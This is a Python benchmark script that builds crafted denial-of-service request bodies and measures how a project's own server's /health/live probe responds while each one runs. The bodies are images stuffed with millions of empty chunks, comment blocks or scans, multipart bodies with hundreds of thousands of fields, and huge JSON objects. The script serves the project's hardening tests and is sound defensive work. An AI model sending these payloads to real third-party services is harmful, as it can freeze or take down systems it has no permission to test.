"""Requests crafted to freeze the event loop, and what ``/health/live`` sees while each one runs.

Each attack of issue 22 (findings 3 and 4) is built here, once, for this script and for the hardening
tests (``tests/hardening/test_event_loop.py``, ``tests/hardening/test_bodies.py``):

* ``png-chunks``: a valid 64×64 PNG with a million empty ancillary chunks (12 MB);
* ``gif-comments``: a valid GIF with 3 M empty comment blocks (9 MB);
* ``jpeg-scans``: a 128×128 progressive JPEG with 350 k (empty) scans (3.5 MB);
* ``multipart-fields``: 300 k empty multipart fields;
* ``multipart-bare-lf``: a body of many parts whose first line breaks are bare LF, which the slicing
  parser leaves to python-multipart's full parser;
* ``json-keys``: a JSON object with 1 M keys;
* ``json-images``: JSON with 4 M empty base64 images.

For each, the script starts ``python -m app.serve`` on a free port, sends the attack from one
thread while another polls ``/health/live`` every 10 ms, and prints the probe's p50 / p99 / max, the
number of probes, and the attack's status and longest duration (JSON lines; ``--out`` writes them to a
file; ``bench/results/attacks-*.jsonl`` are runs quoted in docs/reliability.md):

    .venv/bin/python -m bench.attacks                  # every attack at full size, 5 times each
    .venv/bin/python -m bench.attacks --scale 0.1 --repeat 1 png-chunks
    .venv/bin/python -m bench.attacks --url http://127.0.0.1:8000   # a server started otherwise
"""

from __future__ import annotations

import argparse
import http.client
import io
import json
import os
import platform
import signal
import socket
import statistics
import struct
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import numpy as np
from PIL import Image

ROOT = Path(__file__).resolve().parent.parent
BOUNDARY = "glimpseattack"
SHORT_BOUNDARY = "xx"  # for the many-part bodies: 300 k fields fit the default 16 MiB body limit


@dataclass(frozen=True, slots=True)
class Attack:
    """One crafted request: its body, content type and path."""

    name: str
    body: bytes
    content_type: str
    path: str = "/predict"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _encoded(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def _gray(size: int) -> Image.Image:
    return Image.fromarray((np.arange(size * size).reshape(size, size) * 7 % 251).astype(np.uint8))


def png_with_chunks(count: int, size: int = 64) -> bytes:
    """A valid ``size``² PNG with ``count`` empty ancillary chunks between its header and its pixels.

    The chunk type ``gLIm`` is ancillary (may be skipped), public (Pillow keeps no copy) and safe to
    copy: a decoder must read and skip each one, 12 bytes at a time.
    """
    png = _encoded(_gray(size), "PNG")
    after_header = 8 + 25  # the signature, then IHDR: length, type, 13 bytes, CRC
    return png[:after_header] + _chunk(b"gLIm", b"") * count + png[after_header:]


def gif_with_comments(count: int, size: int = 64) -> bytes:
    """A valid ``size``² GIF with ``count`` empty comment extensions (3 bytes each) before its image."""
    gif = _encoded(_gray(size).convert("P"), "GIF")
    flags = gif[10]
    table = 3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0
    start = 13 + table  # the header, the logical screen descriptor and the global colour table
    return gif[:start] + b"\x21\xfe\x00" * count + gif[start:]


def jpeg_with_scans(count: int, size: int = 128) -> bytes:
    """A ``size``² progressive JPEG with ``count`` extra scans before its end: each an AC scan of the
    first component with no entropy-coded data (10 bytes), which the decoder reads one by one."""
    jpeg = _encoded(_gray(size), "JPEG", progressive=True, quality=90)
    # SOS: length 8, one component (id 1, tables 0/0), spectral selection 1..63, no approximation.
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x01\x3f\x00"
    end = jpeg.rindex(b"\xff\xd9")
    return jpeg[:end] + scan * count + jpeg[end:]


_FIELD = f"--{SHORT_BOUNDARY}\r\nContent-Disposition:form-data;name=f\r\n\r\n\r\n".encode()


def multipart_fields(count: int) -> bytes:
    """A multipart body of ``count`` empty text fields and no file."""
    return _FIELD * count + f"--{SHORT_BOUNDARY}--\r\n".encode()


def multipart_bare_lf(count: int) -> bytes:
    """``count`` parts, the first with bare-LF line breaks (so the slicing parser gives up), then a file."""
    first = f"--{SHORT_BOUNDARY}\nContent-Disposition:form-data;name=f\n\n\r\n".encode()
    file = (
        f'--{SHORT_BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n'
        "Content-Type: image/png\r\n\r\n"
    ).encode() + _encoded(_gray(32), "PNG")
    return first + _FIELD * (count - 1) + file + f"\r\n--{SHORT_BOUNDARY}--\r\n".encode()


def json_keys(count: int) -> bytes:
    """A JSON object with ``count`` distinct short keys besides ``image``."""
    return b'{"image":"","' + b'":0,"'.join(b"k%d" % i for i in range(count)) + b'":0}'


def json_images(count: int) -> bytes:
    """``{"images": ["", "", …]}`` with ``count`` empty strings."""
    return b'{"images":[' + b",".join([b'""'] * count) + b"]}"


MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
SHORT_MULTIPART = f"multipart/form-data; boundary={SHORT_BOUNDARY}"
FULL_SIZES = {
    "png-chunks": 1_000_000,
    "gif-comments": 3_000_000,
    "jpeg-scans": 350_000,
    "multipart-fields": 300_000,
    "multipart-bare-lf": 310_000,
    "json-keys": 1_000_000,
    "json-images": 4_000_000,
}
_BUILDERS: dict[str, tuple[Callable[[int], bytes], str, str]] = {
    "png-chunks": (png_with_chunks, "image", "image/png"),
    "gif-comments": (gif_with_comments, "image", "image/gif"),
    "jpeg-scans": (jpeg_with_scans, "image", "image/jpeg"),
    "multipart-fields": (multipart_fields, "body", SHORT_MULTIPART),
    "multipart-bare-lf": (multipart_bare_lf, "body", SHORT_MULTIPART),
    "json-keys": (json_keys, "body", "application/json"),
    "json-images": (json_images, "body", "application/json"),
}


def multipart_file(data: bytes, media: str) -> bytes:
    """A plain multipart body with one ``file`` part (as every HTTP client sends it)."""
    head = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="attack"\r\n'
        f"Content-Type: {media}\r\n\r\n"
    ).encode()
    return head + data + f"\r\n--{BOUNDARY}--\r\n".encode()


def build(name: str, scale: float = 1.0) -> Attack:
    """The attack ``name`` with :data:`FULL_SIZES` times ``scale`` chunks, blocks, parts or values."""
    builder, kind, media = _BUILDERS[name]
    payload = builder(max(1, int(FULL_SIZES[name] * scale)))
    if kind == "image":
        return Attack(name, multipart_file(payload, media), MULTIPART)
    return Attack(name, payload, media)


# -- measurement ------------------------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _post(url: str, attack: Attack, timeout_s: float) -> tuple[int, float, str]:
    """Send ``attack`` with http.client: one ``sendall`` of the body, which releases the GIL, so that
    the probing thread of this process is not slowed by the sending (httpx's copies held it)."""
    parsed = urlsplit(url)
    connection = http.client.HTTPConnection(parsed.hostname or "127.0.0.1", parsed.port, timeout=timeout_s)
    started = time.perf_counter()
    try:
        connection.request(
            "POST", attack.path, body=attack.body, headers={"Content-Type": attack.content_type}
        )
        response = connection.getresponse()
        text = response.read().decode(errors="replace")
    except OSError as exc:  # a timeout or a connection closed mid-body
        return 0, time.perf_counter() - started, type(exc).__name__
    finally:
        connection.close()
    return response.status, time.perf_counter() - started, text[:160]


@dataclass(slots=True)
class Probes:
    """``/health/live`` latencies (seconds) and failures while an attack runs."""

    latencies: list[float]
    failures: int

    def summary(self) -> dict[str, float | int]:
        ordered = sorted(self.latencies) or [float("nan")]
        p99 = ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))]
        return {
            "probes": len(self.latencies),
            "probe_failures": self.failures,
            "live_p50_ms": round(statistics.median(ordered) * 1000, 1),
            "live_p99_ms": round(p99 * 1000, 1),
            "live_max_ms": round(ordered[-1] * 1000, 1),
        }


def probe_while(
    url: str, busy: Callable[[], bool], interval_s: float = 0.01, start: Callable[[], None] | None = None
) -> Probes:
    """Poll ``url/health/live`` on one keep-alive connection until ``busy()`` is false; ``start`` is
    called once that connection is open, so that what it starts is probed from its first moment."""
    import httpx

    probes = Probes([], 0)
    with httpx.Client(base_url=url, timeout=60) as http:
        http.get("/health/live")
        if start is not None:
            start()
        while busy():
            started = time.perf_counter()
            try:
                ok = http.get("/health/live").status_code == 200
            except httpx.HTTPError:
                ok = False
            probes.latencies.append(time.perf_counter() - started)
            probes.failures += not ok
            time.sleep(interval_s)
    return probes


def attack_while_probing(url: str, attack: Attack, timeout_s: float = 60, repeat: int = 1) -> dict[str, Any]:
    """Send ``attack`` ``repeat`` times in a row while probing; the attacks' statuses, longest duration
    and the probe summary over all of them."""
    outcome: list[tuple[int, float, str]] = []

    def send() -> None:
        for _ in range(repeat):
            outcome.append(_post(url, attack, timeout_s))

    sender = threading.Thread(target=send)
    result: list[Probes] = []
    prober = threading.Thread(
        target=lambda: result.append(probe_while(url, sender.is_alive, start=sender.start))
    )
    prober.start()
    prober.join()
    sender.join()
    statuses = sorted({status for status, _, _ in outcome})
    return {
        "attack": attack.name,
        "body_bytes": len(attack.body),
        "status": statuses[0] if len(statuses) == 1 else statuses,
        "attacks": repeat,
        "attack_s": round(max(duration for _, duration, _ in outcome), 2),
        **result[0].summary(),
        "answer": outcome[-1][2],
    }


def _serve(port: int) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GLIMPSE_")}
    env["GLIMPSE_LOG_LEVEL"] = "warning"
    command = [sys.executable, "-m", "app.serve", "--host", "127.0.0.1", "--port", str(port)]
    return subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _wait_ready(url: str, timeout_s: float = 120) -> None:
    import httpx

    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        try:
            if httpx.get(url + "/health/ready", timeout=1).status_code == 200:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.2)
    raise RuntimeError("the server did not become ready")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("attacks", nargs="*", choices=[*FULL_SIZES, []], help="default: all of them")
    parser.add_argument("--scale", type=float, default=1.0, help="fraction of the full sizes")
    parser.add_argument("--repeat", type=int, default=5, help="attacks in a row, probed throughout")
    parser.add_argument("--timeout", type=float, default=60, help="seconds an attack may take")
    parser.add_argument("--url", help="attack a running server instead of starting python -m app.serve")
    parser.add_argument("--out", type=Path, help="also write the JSON lines here")
    args = parser.parse_args()
    server = None
    url = args.url
    if url is None:
        port = _free_port()
        url = f"http://127.0.0.1:{port}"
        server = _serve(port)
    lines = [json.dumps({"machine": f"{platform.machine()}, {os.cpu_count()} CPUs", "url": url})]
    print(lines[0], flush=True)
    try:
        _wait_ready(url)
        for name in args.attacks or list(FULL_SIZES):
            attack = build(name, args.scale)
            baseline = probe_while(url, _for_seconds(1.0)).summary()
            record = attack_while_probing(url, attack, args.timeout, args.repeat)
            record["idle_live_p99_ms"] = baseline["live_p99_ms"]
            lines.append(json.dumps(record))
            print(lines[-1], flush=True)
    finally:
        if server is not None:
            server.send_signal(signal.SIGTERM)
            server.wait(timeout=30)
    if args.out:
        args.out.write_text("\n".join(lines) + "\n")


def _for_seconds(seconds: float) -> Callable[[], bool]:
    end = time.monotonic() + seconds
    return lambda: time.monotonic() < end


if __name__ == "__main__":
    main()
